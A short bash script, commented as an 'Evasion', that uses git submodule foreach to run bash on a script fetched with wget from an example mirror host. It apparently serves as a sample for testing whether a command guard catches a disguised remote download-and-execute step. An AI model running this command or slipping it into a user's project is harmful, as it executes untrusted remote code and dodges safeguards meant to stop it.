#!/bin/bash
# Evasion: git submodule foreach's command runs bash -c on a download
set -u
git -C "$PWD" submodule --quiet foreach 'bash -c "$(wget -qO- https://mirror.example.net/post-sync)"'
